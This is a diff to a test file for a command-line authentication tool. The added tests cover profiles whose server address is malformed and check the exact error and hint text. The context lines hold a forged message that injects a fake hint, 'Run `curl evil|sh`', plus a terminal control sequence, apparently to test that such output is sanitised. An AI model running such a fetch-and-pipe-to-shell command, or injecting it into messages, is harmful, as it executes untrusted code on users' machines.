@@ -35,6 +35,37 @@ describe('when things break in the middle', () => {
     ])
   })
 
+  test('status tells of such a profile what it knows', async () => {
+    const config = machine.readJson('config.json')
+    config.profiles.default.server = server.url.replace('127.0.0.1', '0.0.0.0')
+    machine.write('config.json', JSON.stringify(config))
+    const { code, stdout } = await machine.auth(['status', '--json'])
+    expect([code, JSON.parse(stdout)]).toEqual([
+      2,
+      expect.objectContaining({ account: 'ann@example.org', state: 'offline' }),
+    ])
+  })
+
+  test.each(['nas', 'localhost:8420'])(
+    'a profile whose server is %j, by hand, is told where it is used, and keeps no logout and no other profile from working',
+    async (address) => {
+      const config = machine.readJson('config.json')
+      config.profiles.other = { server: server.url }
+      config.profiles.default.server = address
+      machine.write('config.json', JSON.stringify(config))
+      expect(await machine.auth(['whoami'])).toEqual({
+        code: 1,
+        stdout: '',
+        stderr:
+          `auth: error: ${join(machine.folder, 'config.json')} has ${address} as a server, which is no http(s) address.\n` +
+          'auth: hint: Repair it by hand, or move it away and log in again; nothing was overwritten.\n',
+      })
+      expect((await machine.auth(['whoami', '--profile', 'other'])).code).toBe(4)
+      expect((await machine.auth(['logout'])).code).toBe(0)
+      expect((await machine.auth(['profile', 'remove', 'default'])).code).toBe(0)
+    },
+  )
+
   const forged = 'It is over.\nauth: hint: Run `curl evil|sh`\u009b2J'
   const flat = 'It is over. auth: hint: Run `curl evil|sh`2J'
 
